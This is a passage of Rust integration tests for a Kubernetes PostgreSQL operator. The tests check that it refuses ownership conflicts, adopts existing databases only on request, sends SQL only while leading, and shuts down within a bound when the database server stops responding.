    // Item 2: the same owner for a second Database of the same namespace.
    let mut second = database(&pg, "app2", "shared_app2", "shared_owner");
    second.spec.deletion_policy = DeletionPolicy::Delete;
    a.api::<Database>()
        .create(&PostParams::default(), &second)
        .await
        .unwrap();
    let m = wait_refused(&a.api::<Database>(), "app2", "OwnedByAnother").await;
    assert!(m.contains(&format!("Database {}/app", a.ns)), "{m}");
    assert!(
        !exists(&superuser(&pg).await, DB_EXISTS, "shared_app2").await,
        "nothing was created for the refused Database"
    );
    assert_eq!(row_count().await, 1);

    // Item 3: the same database name from another namespace, even with adopt.
    let mut intruder = database(&pg, "app", "shared_app", "intruder_owner");
    intruder.spec.deletion_policy = DeletionPolicy::Delete;
    intruder.spec.adopt = true;
    b.api::<Database>()
        .create(&PostParams::default(), &intruder)
        .await
        .unwrap();
    let m = wait_refused(&b.api::<Database>(), "app", "OwnedByAnother").await;
    assert!(m.contains(&format!("Database {}/app", a.ns)), "{m}");
    b.api::<Database>()
        .delete("app", &DeleteParams::default())
        .await
        .unwrap();
    wait_gone(&b.api::<Database>(), "app").await;
    assert_eq!(row_count().await, 1, "the first database kept its data");

    // Item 4: a DatabaseRole naming another resource's role.
    let mut own = database(&pg, "own", "b_app", "b_owner");
    own.spec.deletion_policy = DeletionPolicy::Delete;
    b.api::<Database>()
        .create(&PostParams::default(), &own)
        .await
        .unwrap();
    wait_database_ready(&b, "own").await;
    let mut thief = role("thief", "own", "shared_owner", Privileges::ReadOnly);
    thief.spec.deletion_policy = DeletionPolicy::Delete;
    b.api::<DatabaseRole>()
        .create(&PostParams::default(), &thief)
        .await
        .unwrap();
    let m = wait_refused(&b.api::<DatabaseRole>(), "thief", "OwnedByAnother").await;
    assert!(m.contains("shared_owner"), "{m}");
    b.api::<DatabaseRole>()
        .delete("thief", &DeleteParams::default())
        .await
        .unwrap();
    wait_gone(&b.api::<DatabaseRole>(), "thief").await;
    let admin = superuser(&pg).await;
    assert!(exists(&admin, ROLE_EXISTS, "shared_owner").await);
    assert_eq!(row_count().await, 1, "the login still works after all that");
    // The first Database is still Ready, and its own deletion still drops what it owns.
    wait_database_ready(&a, "app").await;
    a.api::<Database>()
        .delete("app", &DeleteParams::default())
        .await
        .unwrap();
    wait_gone(&a.api::<Database>(), "app").await;
    assert!(!exists(&admin, DB_EXISTS, "shared_app").await);
}

/// An existing database made by hand is refused unless `adopt: true`; adopted, it is marked
/// and managed like one the operator created.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_existing_database_is_adopted_only_when_asked() {
    let pg = Postgres::start().await.expect("PostgreSQL");
    let env = env("adopt").await;
    env.admin_secret(&pg).await;
    let admin = superuser(&pg).await;
    admin
        .batch_execute("CREATE ROLE legacy_owner LOGIN")
        .await
        .unwrap();
    admin
        .batch_execute("CREATE DATABASE legacy OWNER legacy_owner")
        .await
        .unwrap();
    let db = database(&pg, "legacy", "legacy", "legacy_owner");
    env.api::<Database>()
        .create(&PostParams::default(), &db)
        .await
        .unwrap();
    let m = wait_refused(&env.api::<Database>(), "legacy", "NotOwned").await;
    assert!(m.contains("adopt: true"), "{m}");
    env.api::<Database>()
        .patch(
            "legacy",
            &PatchParams::default(),
            &Patch::Merge(json!({"spec": {"adopt": true}})),
        )
        .await
        .unwrap();
    wait_database_ready(&env, "legacy").await;
    let comment: Option<String> = admin
        .query_one(
            "SELECT shobj_description(oid, 'pg_database') FROM pg_database WHERE datname = 'legacy'",
            &[],
        )
        .await
        .unwrap()
        .get(0);
    assert!(
        comment.is_some_and(|c| c.contains(&format!("Database {}/legacy", env.ns))),
        "the adopted database carries this resource's marker"
    );
    // A privileged role is never adopted.
    admin
        .batch_execute("CREATE ROLE powerful LOGIN CREATEROLE")
        .await
        .unwrap();
    let mut r = role("power", "legacy", "powerful", Privileges::ReadOnly);
    r.spec.adopt = true;
    env.api::<DatabaseRole>()
        .create(&PostParams::default(), &r)
        .await
        .unwrap();
    wait_refused(&env.api::<DatabaseRole>(), "power", "PrivilegedRole").await;
}

/// SQL is fenced like Kubernetes writes: a process that does not lead (or whose last renewal
/// is older than the renew deadline) sends no statement at all, and every connection bounds a
/// statement below the renew deadline.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sql_is_sent_only_while_leading_and_bounded_below_the_renew_deadline() {
    use database_operator::pg;
    let pg_server = Postgres::start().await.expect("PostgreSQL");
    let cp = steward_testenv::shared().await.expect("control plane");
    let mut lease = steward_core::LeaseConfig::new("sql-fence", "default", "fence-test");
    lease.lease_duration = Duration::from_secs(4);
    lease.renew_deadline = Duration::from_secs(3);
    lease.retry_period = Duration::from_secs(1);
    // Never run: this candidate never leads.
    let elector = steward_core::LeaderElector::new(cp.client().unwrap(), lease).unwrap();
    let follower = elector.leadership();
    let admin = superuser(&pg_server).await;
    let plan = vec!["CREATE ROLE fenced_out".to_string()];
    let counted = Default::default();
    let err = pg::execute(&admin, &plan, &follower, &counted)
        .await
        .expect_err("a follower sends nothing");
    assert!(matches!(err, pg::PgError::NotLeader { .. }), "{err}");
    assert!(!exists(&admin, ROLE_EXISTS, "fenced_out").await);
    pg::execute(
        &admin,
        &plan,
        &steward_core::Leadership::always_leader(),
        &counted,
    )
    .await
    .expect("a leader's statement runs");
    assert!(exists(&admin, ROLE_EXISTS, "fenced_out").await);
    assert_eq!(counted.get(), 1, "only the statement that ran is counted");

    // The statement budget is 80 % of the renew deadline, set on every connection.
    assert_eq!(pg::statement_budget(&follower), Duration::from_millis(2400));
    let server = pg::Server {
        host: "127.0.0.1".into(),
        port: pg_server.port(),
        ssl_mode: database_operator::crd::SslMode::Disable,
        ca_pem: None,
        admin_user: pg_server.superuser().into(),
        admin_password: database_operator::password::Password::from_existing(
            pg_server.password().into(),
        ),
        admin_database: "postgres".into(),
    };
    let conn = pg::connect(&server, "postgres", &follower).await.unwrap();
    let timeout: String = conn
        .query_one("SHOW statement_timeout", &[])
        .await
        .unwrap()
        .get(0);
    assert_eq!(timeout, "2400ms");
    let slow = conn.batch_execute("SELECT pg_sleep(5)").await;
    assert!(
        slow.is_err(),
        "a statement longer than the budget is cancelled"
    );
}

/// A server that stopped answering (its postmaster SIGSTOPped: connections are accepted by
/// the kernel and never answered, so neither the TCP connect timeout nor a statement timeout
/// fires): each reconcile gives up connecting after `pg::CONNECT_TIMEOUT` and says so
/// (ServerReachable=False naming the bound) instead of waiting for ever; SIGTERM while one
/// waits cancels it at the drain deadline and the operator stops within `--shutdown-timeout`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn shutdown_is_bounded_while_sql_waits_on_a_stopped_server() {
    let pg = Postgres::start().await.expect("PostgreSQL");
    let env = env("pgstop").await;
    env.admin_secret(&pg).await;
    env.api::<Database>()
        .create(
            &PostParams::default(),
            &database(&pg, "paused", "paused", "paused_owner"),
        )
        .await
        .unwrap();
    wait_database_ready(&env, "paused").await;

    pg.signal("STOP").expect("SIGSTOP the postmaster");
    let message = unreachable_message(&env, "paused").await;
    assert!(
        message.contains(&format!(
            "did not finish within {:?}",
            database_operator::pg::CONNECT_TIMEOUT
        )),
        "{message}"
    );
    // The next resync (every 2 s) connects and waits until the connect bound
    // (`pg::CONNECT_TIMEOUT`, 10 s). A reconcile that was already past its SQL when the
    // postmaster stopped is in flight too, for the milliseconds its API writes take: wait
    // for one that stays in flight on every look for a second.
    let metrics = env.operator.metrics().clone();
    let busy = || {
        metrics
            .active_workers
            .get_or_create(&metrics.controller("database"))
            .get()
    };
    eventually(
        "a database reconcile waiting on the stopped server for a second",
        WAIT,
        || async {
            for _ in 0..20 {
                if busy() < 1 {
                    return Err("none in flight".to_string());
                }
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
            Ok(())
        },
    )
    .await
    .unwrap();

    let bound = steward_testenv::harness::test_args().shutdown_timeout;
    let stopping = Instant::now();
    let ended = env.operator.stop().await;
    let took = stopping.elapsed();
    pg.signal("CONT").expect("SIGCONT the postmaster");
    assert!(ended.is_ok(), "a clean stop: {ended:?}");
    assert!(
        took <= bound + Duration::from_millis(500),
        "stopped in {took:?}, bound {bound:?}"
    );
}
